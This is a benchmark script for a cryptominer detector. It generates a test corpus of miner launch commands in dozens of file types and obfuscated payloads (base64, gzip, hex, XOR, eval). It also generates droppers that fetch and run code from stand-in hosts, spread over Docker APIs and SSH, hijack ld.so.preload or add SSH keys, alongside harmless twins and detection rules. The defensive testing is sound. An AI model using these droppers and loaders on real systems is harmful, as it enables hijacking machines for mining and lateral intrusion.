#!/usr/bin/env python3
"""What is found and what is not: recall over made positives, false alarms over clean files.

    ./dev bench detection                      the made corpus, and /usr of this machine
    ./dev bench detection --fetch              also packages full of look-alikes, fetched by name
    ./dev bench detection --keep DIR           writes the made corpus there and leaves it

The corpus is made here, from parts: every style of a miner's command in every file that can carry
one, configurations, wallets and payloads in encodings, and for each the harmless twin.  Nothing of
it belongs to anybody: hosts are under .example, the wallet has no keys.
"""
import argparse
import base64
import collections
import gzip
import io
import json
import pathlib
import resource
import shutil
import subprocess
import sys
import tarfile
import tempfile
import time
from typing import Dict, Iterator, List, NamedTuple, Sequence, Tuple

ROOT = pathlib.Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "testdata"))
import make_rogue_image as rogue  # noqa: E402

WALLET = rogue.wallet("detection")
LEVELS = {"none": 0, "note": 1, "warning": 2, "error": 3}
# Packages that are full of mining words and mine nothing.
LOOK_ALIKES = {
    "debian": ["hashcat-data", "john", "john-data", "electrum", "python3-electrum", "monero",
               "clamav", "suricata", "suricata-update", "libssl3", "libgcrypt20"],
    "npm": ["ethers", "web3", "bitcoinjs-lib", "@noble/hashes", "@noble/curves"],
}


class Sample(NamedTuple):
    path: str
    content: bytes
    least: str  # the lowest level that will do for a positive, the highest that is allowed else
    kind: str   # "positive" or "negative"


# --- commands --------------------------------------------------------------------------------------

# As words; the first is the program's name, which says nothing.
COMMANDS: Dict[str, List[str]] = {
    "xmrig": ["./sync", "-o", "gate.example:3333", "-u", WALLET, "-p", "x", "-k"],
    "xmrig-long": ["./sync", "--url=gate.example:443", "--user=" + WALLET, "--tls",
                   "--donate-level=1"],
    "xmrig-account": ["./sync", "-a", "rx/0", "-o", "gate.example:443", "-u", "somebody.rig"],
    "stratum": ["./sync", "-o", "stratum+tcp://gate.example:3333", "-u", "somebody", "-p", "x"],
    "cpuminer": ["./sync", "-a", "yespower", "-o", "stratum+tcps://gate.example:7042", "-O",
                 "somebody:x"],
    "srbminer": ["./sync", "--algorithm", "ghostrider", "--pool", "gate.example:3333", "--wallet",
                 "somebody"],
    "lolminer": ["./sync", "--algo", "ETHASH", "--pool", "gate.example:3333", "--user",
                 "TRX:somebody.rig"],
    "gminer": ["./sync", "--algo", "kawpow", "--server", "gate.example", "--port", "6060", "--user",
               "somebody.rig"],
    "ethminer": ["./sync", "-G", "-P",
                 "stratum1+ssl://0x0000000000000000000000000000000000000001.rig@gate.example:5555"],
    "phoenix": ["./sync", "-pool", "ssl://gate.example:5555", "-wal",
                "0x0000000000000000000000000000000000000001", "-worker", "rig"],
    "miniz": ["./sync", "--url=somebody.rig@gate.example:4040", "--par=144,5"],
    "t-rex": ["./sync", "-a", "autolykos2", "-o", "stratum+tcp://gate.example:9999", "-u",
              "somebody.rig", "-p", "x"],
    "kaspa": ["./sync", "--mining-address", "kaspa:somebody", "--kaspad-address", "gate.example"],
}


def quoted(words: Sequence[str], quote: str = '"') -> str:
    return ", ".join(quote + word + quote for word in words)


def carriers(words: Sequence[str]) -> Iterator[Tuple[str, str]]:
    """Every file that can start a program, with this command in it."""
    line = " ".join(words)
    yield "start.sh", f"#!/bin/sh\ncd /opt/app\nnohup {line} >/dev/null 2>&1 &\n"
    yield "folded.sh", "#!/bin/sh\nexec " + " \\\n  ".join(words) + "\n"
    yield "crontab", f"*/5 * * * * root {line} >/dev/null 2>&1\n"
    yield "web.service", f"[Unit]\nDescription=Web\n[Service]\nExecStart={line}\nRestart=always\n"
    yield "Dockerfile", f"FROM debian\nCOPY sync /sync\nCMD [{quoted(words)}]\n"
    yield "Dockerfile.run", f"FROM debian\nRUN {line}\n"
    yield "compose.yaml", f"services:\n  web:\n    image: app\n    command: {line}\n"
    yield "compose-list.yaml", ("services:\n  web:\n    command:\n"
                                + "".join(f"      - '{word}'\n" for word in words))
    yield "pod.yaml", ("kind: Pod\nspec:\n  containers:\n  - name: web\n"
                       f"    command: [\"{words[0]}\"]\n    args:\n"
                       + "".join(f"    - \"{word}\"\n" for word in words[1:]))
    yield "workflow.yml", f"jobs:\n  build:\n    steps:\n    - run: |\n        make\n        {line}\n"
    yield "gitlab-ci.yml", f"build:\n  script:\n    - make\n    - {line}\n"
    yield "Jenkinsfile", f"pipeline {{ stages {{ stage('a') {{ steps {{ sh '{line}' }} }} }} }}\n"
    yield "package.json", json.dumps({"name": "app", "scripts": {"postinstall": line}}, indent=2)
    yield "Makefile", f"all:\n\tcc -o app app.c\n\t{line}\n"
    yield "train.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": [f"!{line}\n"]}]})
    yield "supervisor.conf", f"[program:web]\ncommand={line}\nautostart=true\n"
    yield "run.py", f"import subprocess\nsubprocess.Popen([{quoted(words)}])\n"
    yield "shell.py", f"import os\nos.system(\"{line} &\")\n"
    yield "lines.py", ("import subprocess\nargs = [\n" + "".join(f"    '{w}',\n" for w in words)
                       + "]\nsubprocess.run(args)\n")
    yield "index.js", ("const { spawn } = require('child_process');\n"
                       f"spawn('{words[0]}', [{quoted(words[1:], chr(39))}], {{ detached: true }});\n")
    yield "main.go", ("package main\nimport \"os/exec\"\nfunc main() {\n"
                      f"\texec.Command({quoted(words)}).Start()\n}}\n")
    yield "build.rs", ("use std::process::Command;\nfn main() {\n    Command::new(\"" + words[0]
                       + "\")" + "".join(f"\n        .arg(\"{w}\")" for w in words[1:])
                       + "\n        .spawn();\n}\n")
    yield "task.rb", f"system('{line}')\n"
    yield "index.php", f"<?php shell_exec('{line} > /dev/null &');\n"
    yield "start.bat", f"@echo off\r\nstart /B {line}\r\n"
    yield "start.ps1", (f"Start-Process -FilePath '{words[0]}' -ArgumentList {quoted(words[1:])} "
                        "-WindowStyle Hidden\n")
    yield "main.tf", f"resource \"x\" \"y\" {{\n  user_data = <<EOF\n#!/bin/sh\n{line}\nEOF\n}}\n"


def variables() -> Iterator[Tuple[str, str]]:
    """The same with what matters in variables."""
    yield "env.sh", ("#!/bin/sh\nHOST=gate.example\nPORT=3333\nKEY=somebody\n"
                     "./sync -o $HOST:$PORT -u ${KEY} -p x &\n")
    yield "default.sh", "#!/bin/sh\nexec ./sync -a rx/0 -o ${UPSTREAM:-gate.example:443} -u ${KEY:-me}\n"
    yield "unknown.sh", "#!/bin/sh\nexec $BIN -o $POOL -u $WALLET -a rx/0\n"
    half = len(WALLET) // 2
    yield "split.sh", (f"#!/bin/sh\nA={WALLET[:half]}\nB={WALLET[half:]}\nH=gate.example\n"
                       "./sync -o $H:3333 -u $A$B\n")
    yield "Dockerfile", ("FROM debian\nENV UPSTREAM gate.example:3333\nARG KEY=somebody\n"
                         "CMD ./sync -o $UPSTREAM -u $KEY -p x\n")
    yield "pod.yaml", ("spec:\n  containers:\n  - command: [\"./sync\"]\n"
                       "    args: [\"-a\", \"rx/0\", \"-o\", \"$(UPSTREAM)\", \"-u\", \"$(KEY)\"]\n"
                       "    env:\n    - name: UPSTREAM\n      value: gate.example:3333\n"
                       "    - name: KEY\n      value: somebody\n")
    yield "start.bat", ("set HOST=gate.example:3333\r\nset KEY=somebody\r\n"
                        "start /B sync.exe -a kawpow -o %HOST% -u %KEY%\r\n")
    yield "start.ps1", ("$up = 'gate.example:3333'\n"
                        "Start-Process sync.exe \"--algo ethash --pool $up --user somebody\"\n")
    yield "run.py", ("import subprocess\nHOST = 'gate.example'\nsubprocess.Popen(['./sync', '-a', 'rx/0', "
                     "'-o', HOST + ':3333', '-u', 'somebody'])\n")
    yield "index.js", ("const up = 'gate.example:3333';\nrequire('child_process').exec("
                       "`./sync -a rx/0 -o ${up} -u somebody`);\n")
    yield "Makefile", "UP := gate.example:3333\nall:\n\t./sync -a rx/0 -o $(UP) -u somebody\n"


# --- configurations --------------------------------------------------------------------------------


def configurations() -> Iterator[Tuple[str, str]]:
    pool = {"url": "gate.example:3333", "user": WALLET, "pass": "x", "keepalive": True, "tls": False}
    xmrig = {"autosave": True, "cpu": {"enabled": True, "huge-pages": True, "max-threads-hint": 75},
             "donate-level": 0, "randomx": {"mode": "auto", "1gb-pages": False}, "pools": [pool]}
    yield "config.json", json.dumps(xmrig, indent=4)
    yield "settings.dat", json.dumps(xmrig)
    yield "commented.json", "// settings\n" + json.dumps(xmrig, indent=2)
    yield "small.json", json.dumps({"pools": [pool], "donate-level": 1})
    yield "pools.txt", ('"pool_list" :\n[\n\t{"pool_address" : "gate.example:3333", "wallet_address" : '
                        f'"{WALLET}", "rig_id" : "", "pool_password" : "x", "use_nicehash" : false, '
                        '"use_tls" : false, "tls_fingerprint" : "", "pool_weight" : 1 },\n],\n'
                        '"currency" : "monero",\n')
    yield "trex.json", json.dumps({"algo": "kawpow", "pools": [
        {"url": "stratum+tcp://gate.example:4444", "user": "somebody", "pass": "x", "worker": "rig"}],
        "api-bind-http": "0.0.0.0:4067", "gpu-report-interval": 30}, indent=2)
    yield "cgminer.conf", json.dumps({"pools": [
        {"url": "stratum+tcp://gate.example:3333", "user": "somebody", "pass": "x"}],
        "api-listen": True, "intensity": "d"}, indent=1)
    yield "config.ini", ("[RandomX]\nwallet = " + WALLET + "\npool1 = gate.example:3333\n"
                         "rigName = rig\n")
    yield ".env", f"POOL_URL=gate.example:3333\nWALLET={WALLET}\nDONATE_LEVEL=0\n"


# --- the same, hidden ------------------------------------------------------------------------------


def hidden() -> Iterator[Tuple[str, bytes]]:
    script = ("#!/bin/sh\ncurl -s https://files.gate.example/a -o /tmp/.a\nchmod +x /tmp/.a\n"
              f"nohup /tmp/.a -o stratum+tcp://gate.example:3333 -u {WALLET} -p x &\n").encode()
    plain = base64.b64encode(script).decode()
    yield "base64.sh", f"#!/bin/sh\necho {plain} | base64 -d | sh\n".encode()
    wrapped = "\n".join(plain[i:i + 60] for i in range(0, len(plain), 60))
    yield "wrapped.sh", f"#!/bin/sh\nbase64 -d <<EOF | sh\n{wrapped}\nEOF\n".encode()
    packed = base64.b64encode(gzip.compress(script, mtime=0)).decode()
    yield "gzip.py", (f"import base64, gzip, os\nos.system(gzip.decompress(base64.b64decode('{packed}'))"
                      ".decode())\n").encode()
    parts = [plain[i:i + 40] for i in range(0, len(plain), 40)]
    yield "split.py", ("import base64, os\nx = (" + "\n     + ".join(f"'{p}'" for p in parts)
                       + ")\nos.system(base64.b64decode(x))\n").encode()
    yield "hex.js", (f"require('child_process').exec(Buffer.from('{script.hex()}', 'hex').toString());\n"
                     ).encode()
    yield "codes.js", ("eval(String.fromCharCode(" + ",".join(str(b) for b in script) + "));\n").encode()
    yield "escapes.js", ("eval('" + "".join(f"\\x{b:02x}" for b in script) + "');\n").encode()
    yield "unicode.js", ("eval('" + "".join(f"\\u{b:04x}" for b in script) + "');\n").encode()
    yield "percent.js", ("eval(unescape('" + "".join(f"%{b:02x}" for b in script) + "'));\n").encode()
    yield "reversed.py", ("import os\nos.system('" + script.decode().strip().replace("\n", ";")[::-1]
                          + "'[::-1])\n").encode()
    encoded = base64.b64encode(script.decode().encode("utf-16le")).decode()
    yield "encoded.ps1", f"powershell -NoProfile -EncodedCommand {encoded}\n".encode()
    yield "spaces.js", b"module.exports = {};" + b" " * 900 + (
        b"require('child_process').exec('./a -o stratum+tcp://gate.example:3333 -u somebody -p x');\n")
    program = rogue.fake_miner()
    yield "xored.bin", b"\x7fELF" + bytes(60) + bytes(b ^ 0x5a for b in program)
    yield "embedded.py", b"DATA = '" + base64.b64encode(program) + b"'\n"
    yield "utf16.ps1", b"\xff\xfe" + script.decode().encode("utf-16le")
    inner = io.BytesIO()
    with tarfile.open(fileobj=inner, mode="w:gz") as tar:
        info = tarfile.TarInfo("opt/a")
        info.size = len(program)
        tar.addfile(info, io.BytesIO(program))
    yield "nested.tgz", inner.getvalue()


# --- what brings miners, whatever they are called --------------------------------------------------


def droppers() -> Iterator[Tuple[str, str, str]]:
    """Path, text, and the lowest level that will do.  Addresses are those of documentation."""
    at = "http://203.0.113.7"
    both = f"(curl -fsSL {at}/i.sh || wget -qO- {at}/i.sh) | bash >/dev/null 2>&1 &"
    yield "cron.d/x", f"*/9 * * * * root {both}\n", "error"
    yield "zz.pth", f"import os; os.system('{both}')\n", "error"
    yield ".bashrc", f"alias ll='ls -l'\n{both}\n", "error"
    yield "net.service", (f"[Service]\nExecStartPre=/bin/sh -c 'curl {at}/n -o /dev/shm/.n; chmod +x "
                          "/dev/shm/.n'\nExecStart=/dev/shm/.n\n"), "error"
    yield "Dockerfile", (f"FROM alpine\nRUN curl -s {at}/a -o /usr/bin/.a && chmod +x /usr/bin/.a && "
                         "echo '* * * * * /usr/bin/.a' | crontab -\n"), "error"
    yield "rivals.sh", ("#!/bin/sh\nfor p in xmrig kinsing sysrv; do pkill -9 -f $p; done\n"
                        "curl -sL https://files.example/n -o /usr/bin/netd && chmod +x /usr/bin/netd\n"
                        "/usr/bin/netd >/dev/null 2>&1 &\n"), "error"
    yield "docker.sh", ("zgrab --port 2375 -f t > o\nfor h in $(cat o); do\ndocker -H tcp://$h:2375 run -d "
                        f"-v /:/mnt alpine chroot /mnt sh -c 'wget -qO- {at}/c | sh'\ndone\n"), "error"
    yield "ssh.sh", ("for h in $(cut -d' ' -f1 ~/.ssh/known_hosts); do\nssh -oStrictHostKeyChecking=no "
                     f"root@$h 'curl {at}/s | bash'\ndone\n"), "error"
    yield "preload.sh", (f"wget -q {at}/l.c && gcc -shared -fPIC -o /usr/lib/l.so l.c\necho /usr/lib/l.so "
                         ">> /etc/ld.so.preload\nnohup /usr/sbin/.d &\n"), "error"
    yield "page.html", ("<script>s=new WebSocket('wss://cdn.example/');w=[];for(i=0;i<navigator."
                        "hardwareConcurrency;i++){w.push(new Worker(URL.createObjectURL(b)));w[i].onmessage"
                        "=e=>s.send(JSON.stringify({type:'submit',job_id:e.data.job_id,nonce:e.data.nonce}))}"
                        "s.onmessage=m=>{j=JSON.parse(m.data);if(j.type=='job')w.forEach(x=>x.postMessage("
                        "{job_id:j.job_id,blob:j.blob,target:j.target}))}</script>\n"), "error"
    yield "address.sh", f"#!/bin/sh\ncurl {at}/a.sh | sh\n", "warning"
    yield "cloud-init.yaml", f"#cloud-config\nruncmd:\n- curl -fsSL {at}/i.sh | bash\n", "warning"
    piped = "curl -s https://files.example/x.sh | sh"
    yield "extconf.rb", f"require 'mkmf'\nsystem('{piped}')\ncreate_makefile('x')\n", "warning"
    yield "package.json", json.dumps({"scripts": {"postinstall": piped}}), "warning"
    yield "postinst", f"#!/bin/sh\nif [ \"$1\" = configure ]; then\n  {piped}\nfi\n", "warning"
    yield "tool.spec", f"Name: tool\n%post\n{piped}\n", "warning"
    yield "build.rs", ("fn main() {\n    std::process::Command::new(\"sh\").arg(\"-c\")"
                       f".arg(\"{piped}\").status().unwrap();\n}}\n"), "warning"
    yield "setup.py", ("from setuptools.command.install import install\nclass I(install):\n    def run(self):"
                       f"\n        os.system('{piped}')\nsetup(cmdclass={{'install': I}})\n"), "warning"
    yield "key.json/package.json", json.dumps({"scripts": {
        "preinstall": "echo ssh-rsa AAAA a@b >> ~/.ssh/authorized_keys"}}), "warning"


# --- what is harmless ------------------------------------------------------------------------------


def harmless() -> Iterator[Tuple[str, str]]:
    command = " ".join(COMMANDS["stratum"])
    hosts = ["supportxmr.com", "moneroocean.stream", "nanopool.org", "2miners.com", "f2pool.com",
             "minexmr.com", "hashvault.pro", "herominers.com", "c3pool.com", "unmineable.com"]
    yield "README.md", (f"# A node\n\nTo support us, donate to {WALLET}. Thank you very much!\n\n"
                        "## Build\n\nRun make and install the program where you like.\n")
    yield "mining.md", (f"# How to mine\n\nStart the program with your wallet like this, please:\n\n"
                        f"```\n{command}\n```\n\nThen look at the web page of the pool for shares.\n")
    yield "comment.sh", f"#!/bin/sh\n# {command}\n./server --port 80\n"
    yield "hosts.txt", "".join(f"0.0.0.0 {h}\n" for h in hosts)
    yield "adblock.txt", "[Adblock Plus 2.0]\n" + "".join(f"||{h}^$third-party\n" for h in hosts)
    yield "domains.json", json.dumps({"block": hosts})
    yield "sigma.yml", ("title: Miner\nlogsource:\n  category: process_creation\ndetection:\n"
                        "  selection:\n    CommandLine|contains:\n    - '--donate-level='\n"
                        "    - ' -o stratum+tcp://'\n    - '--cpu-priority='\n  condition: selection\n")
    yield "yara.yar", ("rule Miner {\n  meta:\n    author = \"us\"\n  strings:\n"
                       "    $a = \"stratum+tcp://\"\n    $b = \"--donate-level\"\n    $c = \"randomx\"\n"
                       "    $d = \"pool.supportxmr.com:3333\"\n  condition:\n    2 of them\n}\n")
    yield "falco.yaml", ("- list: miner_domains\n  items: [" + ", ".join(f'"{h}"' for h in hosts)
                         + "]\n- rule: Miner\n  condition: spawned_process and proc.cmdline contains "
                         "\"stratum+tcp\"\n  output: miner\n  priority: CRITICAL\n")
    yield "suricata.rules", ('alert tcp any any -> any any (msg:"Miner login"; content:"mining.subscribe"; '
                             'content:"mining.authorize"; sid:1;)\n')
    yield "detect_test.py", ("import detect\n\ndef test_miner():\n    assert detect.is_miner("
                             f"'{command}')\n")
    yield "detect_test.go", ("package detect\n\nfunc TestMiner(t *testing.T) {\n\tif !IsMiner("
                             f"\"{command}\") {{\n\t\tt.Fatal()\n\t}}\n}}\n")
    yield "curl.sh", "#!/bin/sh\ncurl -o out -u user:pass --proxy proxy.example:8080 https://a.example/\n"
    yield "db.sh", "#!/bin/sh\nmysql -h db.example -P 3306 -u root -p x\npsql -h db:5432 -U u -p 1\n"
    yield "crack.sh", "#!/bin/sh\nhashcat -m 1400 -a 0 -o out.txt hashes.txt words.txt -w 3 -u 8\n"
    yield "compose.yaml", ("services:\n  db:\n    image: postgres\n    command: postgres -c "
                           "max_connections=200 -p 5432\n    user: postgres\n")
    yield "pool.py", ("from db import pool\n\nPOOL_URL = 'postgres://db.example:5432/app'\n"
                      "wallet = Wallet(user)\nminer = DataMiner(pool)\n")
    yield "keccak.c", ("static const unsigned long RC[24] = {0x0000000000000001, 0x0000000000008082,\n"
                       "  0x800000000000808a, 0x8000000080008000};\nvoid keccak(void);\n")
    yield "install.sh", ("#!/bin/sh\nset -e\ncurl -fsSL https://get.tool.example/install.sh | sh\n"
                         "chmod +x /usr/local/bin/tool\nnohup tool serve &\n")
    yield "usage.py", ("\"\"\"Asks a pool.\n\nUsage:\n    ask.py -o gate.example:3333 -u WALLET -p x\n\"\"\"\n"
                       "import argparse\np = argparse.ArgumentParser(epilog='example: ask.py -o "
                       "gate.example:3333 -u w -p x')\np.add_argument('-o', help='pool, e.g. -o "
                       "gate.example:3333 -u w -p x')\np.parse_args()\n")
    yield "usage.sh", ("#!/bin/sh\nusage() {\n  echo \"Example: $0 -o gate.example:3333 -u w -p x\" >&2\n}\n"
                       "usage\n")
    yield "detect.spec.ts", ("describe('miners', () => {\n  const lines = ['nohup " + command + " > /dev/null "
                             "2>&1 &'];\n  it.each(lines)('%s', (l) => {\n    expect(detect(l)).toBe(true);"
                             "\n  });\n});\n")
    yield "cowrie.json", json.dumps({"eventid": "cowrie.command.input", "src_ip": "203.0.113.9",
                                     "input": f"curl http://203.0.113.9/x | sh; {command}"})
    yield "event.json", json.dumps({"@timestamp": "2026-01-01", "process": {
        "pid": 7, "command_line": f"./sync -o gate.example:3333 -u {WALLET} -p x"}}, indent=1)
    yield "clean.sh", ("#!/bin/bash\npkill -9 xmrig; pkill -9 -f kinsing; killall -9 sysrv\nchattr -i "
                       "/etc/ld.so.preload\nsed -i '/libprocesshider/d' /etc/ld.so.preload\ncrontab -l | "
                       "grep -v curl | crontab -\nrm -rf /tmp/.x /tmp/kinsing\nfind / -name 'kinsing*' "
                       "-delete >/dev/null 2>&1 &\n")
    yield "desktop.sh", "#!/bin/sh\nxfer -o host.example:3389 -u admin -p x\nsq -o db.example:5432 -u me -p x\n"
    yield "pools.json", json.dumps({"coinbase_tags": {"/F2Pool/": {
        "name": "F2Pool", "link": "https://www.f2pool.com"}}})
    yield "deny.json", json.dumps({"rules": [{"action": "deny", "fqdn": "pool.supportxmr.com"}]})
    yield "en.json", json.dumps({"poolHint": "For example stratum+tcp://gate.example:3333"})
    yield "stream.sh", "#!/bin/sh\nmodprobe msr\nwrmsr -a 0x1a4 0xf\nnumactl --membind=0 ./stream\n"
    yield "blocker.js", ("chrome.webRequest.onBeforeRequest.addListener(() => ({cancel: true}), {urls: ["
                         "'*://coinhive.com/*']}, ['blocking']);\n")
    yield "iocs.csv", f"type,value,comment\ndomain,gate.example,C2\ncommand,{command} --user {WALLET},seen\n"
    yield "lab.sh", "#!/bin/sh\ncurl http://10.1.1.1/a.sh | sh\ncurl http://172.17.0.1/b.sh | bash\n"
    yield "values.yaml", "hugepages:\n  enabled: true\nsysctl:\n  vm.nr_hugepages: 1280\n"


def corpus() -> List[Sample]:
    samples: List[Sample] = []
    for name, words in COMMANDS.items():
        for path, text in carriers(words):
            samples.append(Sample(f"commands/{name}/{path}", text.encode(), "error", "positive"))
    for path, text in variables():
        samples.append(Sample(f"variables/{path}", text.encode(), "error", "positive"))
    for path, text in configurations():
        samples.append(Sample(f"configurations/{path}", text.encode(), "error", "positive"))
    for path, content in hidden():
        samples.append(Sample(f"hidden/{path}", content, "error", "positive"))
    for path, text, least in droppers():
        samples.append(Sample(f"droppers/{path}", text.encode(), least, "positive"))
    for path, text in harmless():
        samples.append(Sample(f"harmless/{path}", text.encode(), "note", "negative"))
    return samples


# --- scanning --------------------------------------------------------------------------------------


def scan(binary: pathlib.Path, tree: pathlib.Path) -> Tuple[dict, float, float]:
    """The report, and the seconds of processor and wall time."""
    before, began = resource.getrusage(resource.RUSAGE_CHILDREN), time.monotonic()
    done = subprocess.run([binary, "repo", tree, "--format", "json", "-q", "--no-cache"], stdout=subprocess.PIPE)
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    if done.returncode not in (0, 1, 3):
        sys.exit(f"detection: scanning {tree} ended with status {done.returncode}")
    cpu = after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime
    return json.loads(done.stdout), cpu, time.monotonic() - began


def worst_by_path(report: dict) -> Dict[str, str]:
    worst: Dict[str, str] = {}
    for finding in report["findings"]:
        at = finding["path"]
        if LEVELS[finding["level"]] > LEVELS[worst.get(at, "none")]:
            worst[at] = finding["level"]
    return worst


def made(binary: pathlib.Path, folder: pathlib.Path) -> bool:
    samples = corpus()
    for sample in samples:
        path = folder / sample.path
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(sample.content)
    report, _, _ = scan(binary, folder)
    worst = worst_by_path(report)
    groups: Dict[str, List[int]] = collections.defaultdict(lambda: [0, 0])
    wrong = []
    for sample in samples:
        level = worst.get(sample.path, "none")
        good = (LEVELS[level] >= LEVELS[sample.least] if sample.kind == "positive"
                else LEVELS[level] <= LEVELS[sample.least])
        group = groups[sample.path.split("/")[0]]
        group[0] += good
        group[1] += 1
        if not good:
            wrong.append(f"  {sample.path}: {level}, wanted "
                         f"{'at least' if sample.kind == 'positive' else 'at most'} {sample.least}")
    print("made corpus")
    for name, (good, count) in groups.items():
        print(f"  {name:16} {good:4} of {count:4} as wanted")
    for line in wrong:
        print(line)
    return not wrong


def clean(binary: pathlib.Path, name: str, tree: pathlib.Path, warnings_allowed: bool) -> bool:
    report, cpu, wall = scan(binary, tree)
    counts, scanned = report["counts"], report["coverage"]["scanned"]
    print(f"{name}: {scanned / 1e9:.2f} GB in {report['coverage']['files']} files: "
          f"{counts['error']} errors, {counts['warning']} warnings, {counts['note']} notes "
          f"({counts['note'] / max(1.0, scanned / 50e6):.2f} per 50 MB); "
          f"{cpu:.1f} s of processor time, {scanned / cpu / 1e9:.2f} GB/s, wall {wall:.1f} s")
    for finding in report["findings"]:
        if finding["level"] != "note":
            print(f"  {finding['level']} {finding['rule']} {finding['path']}")
    return counts["error"] == 0 and (warnings_allowed or counts["warning"] == 0)


def fetch(folder: pathlib.Path) -> None:
    """Each package into a folder of its own; what cannot be had is said and left out."""
    folder.mkdir(parents=True, exist_ok=True)
    for name in LOOK_ALIKES["debian"]:
        target = folder / name
        if target.exists():
            continue
        with tempfile.TemporaryDirectory() as scratch:
            done = subprocess.run(["apt-get", "-qq", "download", name], cwd=scratch,
                                  stderr=subprocess.DEVNULL)
            files = list(pathlib.Path(scratch).glob("*.deb"))
            if done.returncode != 0 or not files:
                print(f"  {name} cannot be fetched")
                continue
            subprocess.run(["dpkg-deb", "-x", files[0], target], check=True)
    if shutil.which("npm") is None:
        print("  npm is not installed: its packages are left out")
        return
    for name in LOOK_ALIKES["npm"]:
        target = folder / name.replace("/", "_")
        if target.exists():
            continue
        target.mkdir()
        done = subprocess.run(["npm", "pack", "--silent", name], cwd=target,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        if done.returncode != 0:
            print(f"  {name} cannot be fetched")
            target.rmdir()


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--binary", type=pathlib.Path, default=ROOT / "build/release/minescan")
    parser.add_argument("--fetch", action="store_true")
    parser.add_argument("--keep", type=pathlib.Path)
    parser.add_argument("--tree", type=pathlib.Path, default=pathlib.Path("/usr"))
    options = parser.parse_args()
    good = True
    if options.keep:
        good &= made(options.binary, options.keep)
    else:
        with tempfile.TemporaryDirectory() as scratch:
            good &= made(options.binary, pathlib.Path(scratch))
    good &= clean(options.binary, str(options.tree), options.tree, False)
    if options.fetch:
        folder = ROOT / "build/bench/look-alikes"
        fetch(folder)
        for tree in sorted(folder.iterdir()):
            good &= clean(options.binary, tree.name, tree, False)
    return 0 if good else 1


if __name__ == "__main__":
    sys.exit(main())
